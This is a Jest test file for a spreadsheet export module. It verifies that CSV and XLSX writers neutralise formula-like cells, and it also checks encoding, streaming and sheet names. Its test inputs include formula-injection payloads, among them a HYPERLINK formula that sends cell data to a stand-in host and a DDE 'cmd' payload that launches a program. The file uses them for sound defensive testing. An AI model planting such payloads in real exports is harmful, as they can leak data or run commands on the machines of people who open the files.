import { PassThrough, Readable, Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { isFormulaLike, neutraliseFormula, writeCsv, writeXlsx, type ExportColumn } from '.';
import { parseCsv } from './testing/csv';
import { cleanSheetName, zipInputsOf } from './xlsx-writer';

jest.setTimeout(120_000);

const TRIGGERS = ['=', '+', '-', '@', '|', '%', '\t', '\r'];

type Row = { code: string; note: string | null; count: number | null; seenAt: Date | null; secret?: string };

const COLUMNS: ExportColumn<Row>[] = [
  { key: 'code', header: { 'zh-CN': '案件编号', en: 'File number' } },
  { key: 'note', header: { 'zh-CN': '备注', en: 'Note' } },
  { key: 'count', header: { 'zh-CN': '数量', en: 'Count' } },
  { key: 'seenAt', header: { 'zh-CN': '发现时间', en: 'Seen at' } },
];

/** Collects everything written to a stream. */
function sink(): { stream: Writable; done: Promise<Buffer> } {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<Buffer>((resolve, reject) => {
    stream.on('end', () => resolve(Buffer.concat(chunks)));
    stream.on('error', reject);
  });
  return { stream, done };
}

async function* asAsync<T>(items: Iterable<T>): AsyncGenerator<T> {
  for (const item of items) yield item;
}

describe('neutraliseFormula', () => {
  it.each(TRIGGERS)('prefixes a quote to text starting with %j and keeps the text', (trigger) => {
    const text = `${trigger}HYPERLINK("http://evil.example/?"&A1)`;
    expect(isFormulaLike(text)).toBe(true);
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('also catches a trigger after leading blanks, and leaves ordinary text alone', () => {
    expect(neutraliseFormula('  =1+2')).toBe("'  =1+2");
    expect(neutraliseFormula('\u3000@SUM(A1)')).toBe("'\u3000@SUM(A1)");
    for (const text of ['王小明', 'MC-2026-000123', 'a=b', '', "'quoted", '1+1']) expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('writeCsv', () => {
  it('writes UTF-8 with a BOM, translated headers, RFC 4180 quoting and CRLF', async () => {
    const { stream, done } = sink();
    const rows: Row[] = [
      { code: 'MC-2026-000001', note: '太和县火车站, "乞讨"\n第二行', count: 3, seenAt: new Date('2026-03-01T02:00:00Z'), secret: '13800138000' },
      { code: 'MC-2026-000002', note: null, count: null, seenAt: null },
    ];
    const result = await writeCsv(asAsync(rows), COLUMNS, stream, { language: 'zh-CN' });
    stream.end();
    const bytes = await done;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([
      ['案件编号', '备注', '数量', '发现时间'],
      ['MC-2026-000001', '太和县火车站, "乞讨"\n第二行', '3', '2026-03-01T10:00:00+08:00'],
      ['MC-2026-000002', '', '', ''],
    ]);
    expect(text).not.toContain('13800138000'); // only listed columns are written
    expect(result).toEqual({ rowCount: 2 });
  });

  it.each(TRIGGERS)('neutralises a cell starting with %j', async (trigger) => {
    const { stream, done } = sink();
    const payload = `${trigger}cmd|' /C calc'!A0`;
    await writeCsv([{ code: payload, note: `x${trigger}`, count: -5, seenAt: null }], COLUMNS, stream, { language: 'en' });
    stream.end();
    const [header, row] = parseCsv((await done).toString('utf8').slice(1));
    expect(header).toEqual(['File number', 'Note', 'Count', 'Seen at']);
    expect(row[0]).toBe(`'${payload}`);
    expect(row[1]).toBe(`x${trigger}`); // only a leading trigger matters
    expect(row[2]).toBe('-5'); // a number is a number, not text
  });

  it('refuses a cell value that is not a plain scalar', async () => {
    const { stream } = sink();
    const bad = [{ code: { formula: 'A1' } as unknown as string, note: null, count: null, seenAt: null }];
    await expect(writeCsv(bad, COLUMNS, stream, { language: 'en' })).rejects.toThrow(TypeError);
  });

  it('waits for a slow consumer instead of buffering everything', async () => {
    let written = 0;
    let maxPending = 0;
    const slow = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, callback) {
        written += chunk.length;
        maxPending = Math.max(maxPending, slow.writableLength);
        setImmediate(callback);
      },
    });
    const rows = (function* () {
      for (let i = 0; i < 20_000; i++) yield { code: `MC-${i}`, note: '太和县城关镇火车站广场'.repeat(4), count: i, seenAt: null };
    })();
    await writeCsv(rows, COLUMNS, slow, { language: 'en' });
    expect(written).toBeGreaterThan(2_000_000);
    expect(maxPending).toBeLessThan(200 * 1024); // at most a couple of 64 kB chunks queued
  });
});

async function readXlsx(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook.worksheets[0];
}

describe('writeXlsx', () => {
  it.each(TRIGGERS)('writes a cell starting with %j as neutralised text, never a formula', async (trigger) => {
    const { stream, done } = sink();
    const payload = `${trigger}SUM(1,2)`;
    await writeXlsx(asAsync([{ code: payload, note: '正常', count: -5, seenAt: null }]), COLUMNS, stream, { language: 'en', sheetName: 'Files' });
    const bytes = await done;
    const sheet = await readXlsx(bytes);
    const cell = sheet.getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    // XML normalises a raw carriage return to a line feed when read back; the quote prefix is what matters.
    expect(cell.value).toBe(`'${payload}`.replace(/\r/g, '\n'));
    expect(cell.formula).toBeUndefined();
    expect(sheet.getCell('C2').value).toBe(-5);
    expect(sheet.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('B2').value).toBe('正常');
  });

  it('writes translated headers, typed cells, local date-times, and only the listed columns', async () => {
    const { stream, done } = sink();
    const result = await writeXlsx(
      [
        { code: 'MC-2026-000001', note: '太和县', count: 3, seenAt: new Date('2026-03-01T02:00:00Z'), secret: '13800138000' },
        { code: 'MC-2026-000002', note: null, count: null, seenAt: null },
      ],
      COLUMNS,
      stream,
      { language: 'zh-CN', sheetName: '案件/导出[2026]' },
    );
    const bytes = await done;
    const sheet = await readXlsx(bytes);
    expect(sheet.name).toBe('案件 导出 2026');
    expect(sheet.getRow(1).values).toEqual([undefined, '案件编号', '备注', '数量', '发现时间']);
    expect(sheet.getCell('B2').value).toBe('太和县');
    expect(sheet.getCell('C2').value).toBe(3);
    const seen = sheet.getCell('D2').value as Date;
    expect(seen.toISOString()).toBe('2026-03-01T10:00:00.000Z'); // Shanghai wall-clock time
    expect(sheet.getCell('D2').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(sheet.getCell('B3').value).toBeNull();
    expect(sheet.columnCount).toBe(4);
    expect(bytes.toString('latin1')).not.toContain('13800138000');
    expect(result).toEqual({ rowCount: 2 });
  });

  it('streams 100,000 rows', async () => {
    const { stream, done } = sink();
    async function* rows() {
      for (let i = 0; i < 100_000; i++) {
        yield { code: `MC-2026-${String(i).padStart(6, '0')}`, note: i % 1000 === 0 ? '=1+1' : '阜阳市太和县', count: i, seenAt: new Date(Date.UTC(2026, 0, 1) + i * 60_000) };
      }
    }
    const [result, bytes] = await Promise.all([writeXlsx(rows(), COLUMNS, stream, { language: 'en' }), done]);
    expect(result.rowCount).toBe(100_000);
    // Read back with exceljs' streaming reader (loading 100,000 rows into a Workbook is slow).
    const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from([bytes]), { worksheets: 'emit', sharedStrings: 'cache' });
    let count = 0;
    let last: unknown[] = [];
    let neutralised: unknown;
    for await (const worksheet of reader) {
      for await (const row of worksheet as AsyncIterable<ExcelJS.Row>) {
        count++;
        if (row.number === 1002) neutralised = row.getCell(2).value; // row i + 2 for i = 1000
        last = [row.getCell(1).value, row.getCell(3).value];
      }
    }
    expect(count).toBe(100_001);
    expect(last).toEqual(['MC-2026-099999', 99_999]);
    expect(neutralised).toBe("'=1+1");
  });

  it('refuses an object cell (exceljs would write { formula } objects as formulas)', async () => {
    const { stream } = sink();
    const bad = [{ code: { formula: 'HYPERLINK("http://evil.example")' } as unknown as string, note: null, count: null, seenAt: null }];
    await expect(writeXlsx(bad, COLUMNS, stream, { language: 'en' })).rejects.toThrow(TypeError);
  });

  it('finds the zip input it waits on for back-pressure (exceljs internals; fails loudly if an upgrade moves them)', async () => {
    const { stream, done } = sink();
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream, useSharedStrings: false });
    const sheet = workbook.addWorksheet('x');
    sheet.addRow(['a']).commit();
    const inputs = zipInputsOf(sheet);
    expect(inputs).toHaveLength(1);
    expect(typeof inputs[0]._writableState?.needDrain).toBe('boolean');
    sheet.commit();
    await workbook.commit();
    await done;
  });

  it('cleans sheet names to Excel rules', () => {
    expect(cleanSheetName(undefined)).toBe('Export');
    expect(cleanSheetName("'a:b'")).toBe('a b');
    expect(cleanSheetName('x'.repeat(40))).toHaveLength(31);
  });
});
